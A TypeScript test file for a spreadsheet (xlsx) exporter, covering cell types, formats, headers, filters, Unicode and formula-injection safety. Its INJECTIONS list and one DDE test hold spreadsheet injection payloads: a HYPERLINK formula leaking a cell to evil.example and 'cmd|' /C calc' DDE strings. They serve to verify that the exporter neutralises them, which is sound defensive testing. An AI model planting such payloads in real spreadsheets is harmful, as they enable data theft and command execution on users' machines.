// xlsx export: package validity, typed cells and formats, header/freeze/filter/widths, formula-injection safety.
import { describe, expect, it } from "vitest";
import { openPackage, parseXml } from "../../../test/office-exports/check-package.js";
import { validateOoxml } from "../../../test/ooxml/validate-package.js";
import { TEXTS, unicodeSheet } from "../../../test/office-exports/fixtures.js";
import type { Sheet } from "../model/source.js";
import { renderSheetToXlsx } from "./render-sheet-to-xlsx.js";

const INJECTIONS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];

function sheet(): Sheet {
  return {
    kind: "sheet",
    title: "Типы 型",
    sheets: [
      {
        name: "Data",
        columns: [
          { header: "Name", type: "string" },
          { header: "Qty", type: "integer" },
          { header: "Price", type: "currency" },
          { header: "Share", type: "percent" },
          { header: "When", type: "date" },
          { header: "Ok", type: "boolean" },
          { header: "Ratio", type: "number", format: "0.000", width: 14 },
          { header: "Total", type: "currency" },
        ],
        rows: [
          ["Äpfel 苹果", 3, 1.5, 0.25, "2026-01-01", true, 0.5, { formula: "=B2*C2" }],
          ["مرحبا", 2, 2.25, 0.5, "2026-03-15T10:30:00Z", false, 1 / 3, { formula: "B3*C3" }],
          ["emoji 🎉", 1, 10, 1, "not a date", null, 2, { formula: "SUM(A1:A3)" }],
        ],
      },
      { name: "Inject/?", columns: [{ header: "=danger" }], rows: INJECTIONS.map((s) => [s]) },
      { name: "inject/*", columns: [{ header: "x" }], rows: [["_x000D_ literal"], ["a\u0001b"]] },
    ],
  };
}

describe("renderSheetToXlsx", () => {
  it("writes a sound package with one worksheet per sheet, sanitised unique names", async () => {
    const { bytes, warnings } = await renderSheetToXlsx(sheet());
    expect(validateOoxml(bytes)).toEqual([]);
    const pkg = openPackage(bytes);
    const wb = pkg.text("xl/workbook.xml");
    const names = Array.from(parseXml(wb).getElementsByTagName("sheet")).map((s) => s.getAttribute("name"));
    expect(names).toEqual(["Data", "Inject", "inject (2)"]);
    expect(new Set(names.map((n) => n!.toLowerCase())).size).toBe(3);
    expect(warnings.some((w) => w.includes("Inject/?"))).toBe(true);
    expect(wb).toContain('fullCalcOnLoad="1"');
    expect(pkg.text("docProps/core.xml")).toContain("Типы 型");
  });

  it("types cells and applies number formats (column format overrides the type)", async () => {
    const pkg = openPackage((await renderSheetToXlsx(sheet())).bytes);
    const styles = parseXml(pkg.text("xl/styles.xml"));
    const numFmtOfStyle = (s: string | null) =>
      Array.from(styles.getElementsByTagName("cellXfs")[0]!.getElementsByTagName("xf"))[Number(s ?? 0)]!.getAttribute(
        "numFmtId",
      );
    const customFmt = new Map(
      Array.from(styles.getElementsByTagName("numFmt")).map((n) => [
        n.getAttribute("numFmtId"),
        n.getAttribute("formatCode"),
      ]),
    );
    const cells = new Map(
      Array.from(parseXml(pkg.text("xl/worksheets/sheet1.xml")).getElementsByTagName("c")).map((c) => [
        c.getAttribute("r")!,
        c,
      ]),
    );
    const fmt = (ref: string) => {
      const id = numFmtOfStyle(cells.get(ref)!.getAttribute("s"));
      return customFmt.get(id) ?? id;
    };
    expect(cells.get("B2")!.getElementsByTagName("v")[0]!.textContent).toBe("3");
    expect(fmt("B2")).toBe("3"); // #,##0
    // A currency column shows its currency, as the PDF does ("$1.50"); it was "#,##0.00" (id 4) without one.
    expect(fmt("C2")).toBe("$#,##0.00");
    expect(fmt("D2")).toBe("10"); // 0.00%
    expect(cells.get("E2")!.getElementsByTagName("v")[0]!.textContent).toBe("46023");
    expect(fmt("E2")).toBe("yyyy-mm-dd");
    expect(Number(cells.get("E3")!.getElementsByTagName("v")[0]!.textContent)).toBeCloseTo(46096.4375, 6);
    expect(fmt("E3")).toBe("yyyy-mm-dd hh:mm");
    expect(cells.get("E4")!.getAttribute("t")).toBe("s"); // "not a date" stays text
    expect(cells.get("F2")!.getAttribute("t")).toBe("b");
    expect(cells.get("F2")!.textContent).toBe("1");
    expect(cells.has("F4")).toBe(false); // null → no cell
    expect(fmt("G2")).toBe("0.000");
    expect(fmt("H2")).toBe("$#,##0.00");
  });

  it("freezes and styles the header, adds an autofilter and column widths", async () => {
    const pkg = openPackage((await renderSheetToXlsx(sheet())).bytes);
    const ws = parseXml(pkg.text("xl/worksheets/sheet1.xml"));
    const pane = ws.getElementsByTagName("pane")[0]!;
    expect(pane.getAttribute("state")).toBe("frozen");
    expect(pane.getAttribute("ySplit")).toBe("1");
    expect(ws.getElementsByTagName("autoFilter")[0]!.getAttribute("ref")).toBe("A1:H4");
    expect(pkg.text("xl/workbook.xml")).toContain("_xlnm._FilterDatabase");
    const header = Array.from(ws.getElementsByTagName("row")[0]!.getElementsByTagName("c"));
    expect(header.every((c) => c.getAttribute("s") === "1")).toBe(true);
    const headerXf = Array.from(
      parseXml(pkg.text("xl/styles.xml")).getElementsByTagName("cellXfs")[0]!.getElementsByTagName("xf"),
    )[1]!;
    expect(headerXf.getAttribute("fontId")).toBe("1");
    const cols = Array.from(ws.getElementsByTagName("col")).map((c) => Number(c.getAttribute("width")));
    expect(cols).toHaveLength(8);
    expect(cols[6]).toBe(14); // given width
    expect(cols[0]).toBeGreaterThanOrEqual(10); // estimated from "Äpfel 苹果"
  });

  it("makes formulas only from {formula} cells, leading = stripped", async () => {
    const pkg = openPackage((await renderSheetToXlsx(sheet())).bytes);
    const formulas = Array.from(parseXml(pkg.text("xl/worksheets/sheet1.xml")).getElementsByTagName("f")).map(
      (f) => f.textContent,
    );
    expect(formulas).toEqual(["B2*C2", "B3*C3", "SUM(A1:A3)"]);
  });

  it("keeps = + - @ tab CR strings as plain strings, byte for byte (never <f>)", async () => {
    const pkg = openPackage((await renderSheetToXlsx(sheet())).bytes);
    const ws = pkg.text("xl/worksheets/sheet2.xml");
    expect(ws).not.toContain("<f>");
    const shared = Array.from(parseXml(pkg.text("xl/sharedStrings.xml")).getElementsByTagName("si")).map(
      (si) => si.textContent,
    );
    const cells = Array.from(parseXml(ws).getElementsByTagName("c"));
    expect(cells.every((c) => c.getAttribute("t") === "s")).toBe(true);
    const values = cells.map((c) => shared[Number(c.textContent)]);
    expect(values).toEqual(["=danger", ...INJECTIONS]);
    // Quote-prefixed, so editing the cell in Excel keeps it text too.
    const xfs = Array.from(
      parseXml(pkg.text("xl/styles.xml")).getElementsByTagName("cellXfs")[0]!.getElementsByTagName("xf"),
    );
    for (const c of cells) expect(xfs[Number(c.getAttribute("s"))]!.getAttribute("quotePrefix")).toBe("1");
  });

  it("keeps CJK, Arabic, Cyrillic and emoji text in the shared strings", async () => {
    const pkg = openPackage((await renderSheetToXlsx(unicodeSheet())).bytes);
    const shared = Array.from(parseXml(pkg.text("xl/sharedStrings.xml")).getElementsByTagName("si")).map(
      (si) => si.textContent,
    );
    expect(shared).toContain(TEXTS.cjk);
    expect(shared).toContain(TEXTS.arabic);
    expect(shared).toContain(`${TEXTS.cyrillic} ${TEXTS.emoji}`);
  });

  it("escapes literal _xHHHH_ and carries control characters as _xHHHH_", async () => {
    const pkg = openPackage((await renderSheetToXlsx(sheet())).bytes);
    const sst = pkg.text("xl/sharedStrings.xml");
    expect(sst).toContain("_x005F_x000D_ literal");
    expect(sst).toContain("a_x0001_b");
  });

  it("stores a DDE-looking {formula} as text with a warning", async () => {
    const s: Sheet = {
      kind: "sheet",
      title: "t",
      sheets: [
        {
          name: "S",
          columns: [{ header: "a" }],
          rows: [[{ formula: "cmd|' /C calc'!A0" }], [{ formula: 'CONCAT("a|b")' }]],
        },
      ],
    };
    const { bytes, warnings } = await renderSheetToXlsx(s);
    const ws = openPackage(bytes).text("xl/worksheets/sheet1.xml");
    expect(ws.match(/<f>/g)).toHaveLength(1);
    // CONCAT is stored with Excel's "_xlfn." prefix for newer functions, and its computed text is cached.
    expect(ws).toContain('<c r="A3" t="str"><f>_xlfn.CONCAT("a|b")</f><v>a|b</v></c>');
    expect(warnings.some((w) => w.includes("DDE"))).toBe(true);
  });

  it("writes a 100,000-cell sheet (the per-sheet limit) as a valid package", async () => {
    const rows = Array.from({ length: 12_500 }, (_, i) => [
      `r${i}`,
      i,
      i / 7,
      "2026-01-02",
      i % 2 === 0,
      `=text${i}`,
      null,
      { formula: `B${i + 2}*2` },
    ]);
    const big: Sheet = {
      kind: "sheet",
      title: "big",
      sheets: [
        {
          name: "Big",
          columns: ["a", "b", "c", "d", "e", "f", "g", "h"].map((header, i) => ({
            header,
            type: i === 3 ? ("date" as const) : undefined,
          })),
          rows,
        },
      ],
    };
    const { bytes } = await renderSheetToXlsx(big);
    expect(validateOoxml(bytes)).toEqual([]);
    const ws = openPackage(bytes).text("xl/worksheets/sheet1.xml");
    expect(ws.includes('<dimension ref="A1:H12501"/>')).toBe(true);
    expect(ws.match(/<row /g)).toHaveLength(12_501);
    expect(ws.match(/<f>/g)).toHaveLength(12_500);
    // Each formula caches its computed value.
    expect(ws.includes('<c r="H12501"><f>B12501*2</f><v>24998</v></c></row></sheetData>')).toBe(true);
  });

  it("handles an empty sheet and rows wider than the columns", async () => {
    const s: Sheet = {
      kind: "sheet",
      title: "t",
      sheets: [
        { name: "E", columns: [{ header: "a" }], rows: [] },
        { name: "W", columns: [{ header: "a" }], rows: [[1, 2, 3]] },
      ],
    };
    const { bytes } = await renderSheetToXlsx(s);
    expect(validateOoxml(bytes)).toEqual([]);
    const pkg = openPackage(bytes);
    expect(pkg.text("xl/worksheets/sheet1.xml")).toContain('<autoFilter ref="A1:A1"/>');
    expect(pkg.text("xl/worksheets/sheet2.xml")).toContain('<c r="C2"><v>3</v></c>');
  });
});

describe("formulas in the file", () => {
  it("prefix functions newer than Excel 2007 with _xlfn. and cache text, boolean and error results by type", async () => {
    const s: Sheet = {
      kind: "sheet",
      title: "t",
      sheets: [
        {
          name: "S",
          columns: [{ header: "a" }],
          rows: [
            [{ formula: 'IFS(1>0,"yes")' }],
            [{ formula: "XOR(TRUE,FALSE)" }],
            [{ formula: "1/0" }],
            [{ formula: 'UNIQUE(A2:A3)&"ifs("' }],
          ],
        },
      ],
    };
    const ws = openPackage((await renderSheetToXlsx(s)).bytes).text("xl/worksheets/sheet1.xml");
    expect(ws).toContain('<c r="A2" t="str"><f>_xlfn.IFS(1&gt;0,"yes")</f><v>yes</v></c>');
    expect(ws).toContain('<c r="A3" t="b"><f>_xlfn.XOR(TRUE,FALSE)</f><v>1</v></c>');
    expect(ws).toContain('<c r="A4" t="e"><f>1/0</f><v>#DIV/0!</v></c>');
    // A function the engine does not know caches nothing: the spreadsheet computes it on open.
    expect(ws).toContain('<c r="A5"><f>_xlfn._xlws.UNIQUE(A2:A3)&amp;"ifs("</f></c>');
  });
});
